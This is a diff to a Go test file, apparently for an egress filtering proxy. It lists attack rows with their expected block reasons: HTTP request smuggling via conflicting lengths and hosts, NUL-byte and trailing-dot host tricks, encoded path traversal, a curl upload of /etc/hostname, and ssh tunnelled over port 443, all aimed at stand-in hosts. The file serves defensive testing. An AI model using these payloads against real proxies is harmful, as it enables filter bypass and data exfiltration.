@@ -31,7 +31,7 @@ import subprocess
 // requestRows are those of TLS and of requests.
 func requestRows() map[string][]attack {
 	host := because("the request is for host")
-	path := because("no")
+	path, broken := because("the rule allows"), because("not a whole HTTP request")
 	honest := curl + "https://good.example/$1"
 	return map[string][]attack{
 		"B10": {
@@ -62,14 +62,14 @@ func requestRows() map[string][]attack {
 			{what: "an upgrade to something else", script: curl + "-H 'Connection: Upgrade' -H 'Upgrade: tunnel' http://good.example/$1", line: because("upgrade")},
 		},
 		"B15": {
-			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: because("")},
-			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n"); s.recv(99)`), arrives: "GET /", line: because("")},
-			{what: "two hosts", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nHost: evil.example")`), line: because("")},
+			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: broken},
+			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), arrives: "GET /", line: host},
+			{what: "two hosts", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nHost: evil.example")`), line: broken},
 			{what: "a target beside the host", script: py(rawHTTP, `say(f"GET http://evil.example/{T} HTTP/1.1\nHost: good.example")`), line: because("host")},
-			{what: "a folded field", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nX: a\n\tb\nHost : evil.example")`), line: because("")},
+			{what: "a folded field", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\nX: a\n\tb\nHost : evil.example")`), line: broken},
 		},
 		"B16": {
-			{what: "a NUL in a server name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\0.evil.example")`), line: because("")},
+			{what: "a NUL in a server name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example\0.evil.example")`), line: broken},
 			{what: "a final dot", script: curl + "http://evil.example./$1", line: question("evil.example")},
 			{what: "a final dot of an allowed name's host", script: py(rawHTTP, `say(f"GET /{T} HTTP/1.1\nHost: good.example.")`), line: host},
 			{what: "upper case", script: curl + "http://EVIL.Example/$1", line: question("evil.example"), honest: curl + "http://GOOD.Example/$1"},
@@ -87,7 +87,7 @@ func requestRows() map[string][]attack {
 			{what: "the same, by encoded dots", script: curl + "--path-as-is https://repo.example/acme/app/%2e%2e/%2e%2e/evil/$1", line: path},
 		},
 		"B22": {
-			{what: "a write where reading is allowed", script: curl + "-T /etc/hostname https://repo.example/acme/app/$1", line: path, honest: curl + "https://repo.example/acme/app/$1"},
+			{what: "a write where reading is allowed", script: curl + "-H 'Expect:' -T /etc/hostname https://repo.example/acme/app/$1", line: path, honest: curl + "https://repo.example/acme/app/$1"},
 			{what: "a method of an override", script: curl + "-X DELETE https://repo.example/acme/app/$1", line: path},
 		},
 		"B29": {
@@ -103,7 +103,7 @@ subprocess.run(["curl", "-skp", "-m", "20", "-x", f"http://127.0.0.1:{port}", f"
 			}, honest: `echo "$1" | ` + curl + "-H 'Expect:' -T - -X POST https://repo.example/acme/upload"},
 		},
 		"B31": {
-			{what: "ssh at the port of https", script: "ssh -o BatchMode=yes -o ConnectTimeout=10 -o StrictHostKeyChecking=no -p 443 x@good.example; " + py("", `
+			{what: "ssh at the port of https", script: "ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p 443 x@good.example; " + py("", `
 import socket, sys; s = socket.create_connection(("good.example", 443), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n"); s.shutdown(1); s.recv(99)`), line: because("not a ClientHello")},
 			{what: "ssh where TLS passes through", script: py("", `
 import socket, sys; s = socket.create_connection(("good.example", 8443), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n"); s.shutdown(1); s.recv(99)`), line: because("not a ClientHello")},
@@ -111,7 +111,7 @@ import socket, sys; s = socket.create_connection(("good.example", 8443), 20); s.
 import socket, sys; s = socket.create_connection(("good.example", 22), 20); s.sendall(b"SSH-2.0-" + sys.argv[1].encode() + b"\r\n")`), line: because("no rule for port 22")},
 		},
 		"B32": {
-			{what: "a WebSocket that no rule has", script: curl + "--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://good.example/$1", line: because("")},
+			{what: "a WebSocket that no rule has", script: curl + "--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://good.example/$1", line: because("websocket: true")},
 		},
 	}
 }
